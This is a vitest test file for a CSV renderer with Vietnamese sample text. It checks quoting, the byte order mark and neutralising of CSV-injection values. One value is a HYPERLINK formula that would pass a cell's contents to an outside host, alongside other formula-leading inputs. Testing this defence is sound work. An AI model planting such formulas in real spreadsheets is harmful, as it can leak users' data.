import { describe, expect, it } from 'vitest';
import { renderCsv, type CsvColumn } from '../../src/lib/csv';

interface Row {
  text?: string;
  count?: number;
}

const columns: CsvColumn<Row>[] = [
  { key: 'text', description: 'text', value: (r) => r.text },
  { key: 'count', description: 'count', value: (r) => r.count },
];

/** The data lines of a rendered CSV, without the byte order mark and header. */
const rows = (records: Row[]): string[] =>
  renderCsv(columns, records)
    .replace(/^\uFEFF/, '')
    .split('\r\n')
    .slice(1, -1);

describe('renderCsv', () => {
  it('starts with a byte order mark, ends lines with CRLF and keeps Vietnamese letters', () => {
    expect(renderCsv(columns, [{ text: 'Tổ dân phố 1', count: 3 }])).toBe('\uFEFFtext,count\r\nTổ dân phố 1,3\r\n');
  });

  it.each([
    ['a comma', 'Thôn 1, thôn 2', '"Thôn 1, thôn 2"'],
    ['a semicolon, the list separator of Vietnamese Excel', 'a; b', '"a; b"'],
    ['a quote', 'gọi là "điểm nóng"', '"gọi là ""điểm nóng"""'],
    ['a line break', 'dòng 1\ndòng 2', '"dòng 1\ndòng 2"'],
    ['nothing special', 'Đường liên thôn', 'Đường liên thôn'],
  ])('quotes a cell with %s only when needed', (_, text, expected) => {
    expect(rows([{ text }])).toEqual([`${expected},`]);
  });

  // A spreadsheet runs a cell that starts with one of these as a formula (CSV injection).
  it.each([
    ['=HYPERLINK("http://x.vn/?"&A1,"Xem")', `"'=HYPERLINK(""http://x.vn/?""&A1,""Xem"")"`],
    ['+84 đề nghị', "'+84 đề nghị"],
    ['- Sửa đường', "'- Sửa đường"],
    ['@SUM(1+1)', "'@SUM(1+1)"],
    ['\tcmd', "'\tcmd"],
  ])('keeps %j as text, not a formula', (text, expected) => {
    expect(rows([{ text }])).toEqual([`${expected},`]);
  });

  it('leaves numbers, negative ones too, as numbers and empty values empty', () => {
    expect(rows([{ count: -3 }, { text: '', count: 0 }, {}])).toEqual([',-3', ',0', ',']);
  });
});
